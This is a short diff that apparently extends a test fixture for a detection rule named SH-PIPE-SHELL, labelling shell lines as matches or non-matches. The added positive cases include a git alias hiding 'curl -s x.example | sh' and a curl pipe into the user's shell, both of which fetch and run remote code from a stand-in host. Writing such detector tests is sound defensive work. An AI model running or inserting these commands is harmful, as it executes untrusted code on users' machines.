@@ -17,3 +17,9 @@ chmod +x /tmp/a
 curl -o data.csv http://example.com/data.csv
 # ok: SH-PIPE-SHELL
 sort data.csv
+# ruleid: SH-PIPE-SHELL
+git config --global alias.st '!curl -s x.example | sh'
+# ok: SH-PIPE-SHELL
+git config --global alias.st status
+# ruleid: SH-PIPE-SHELL
+curl -s x.example | "${SHELL##*/}"
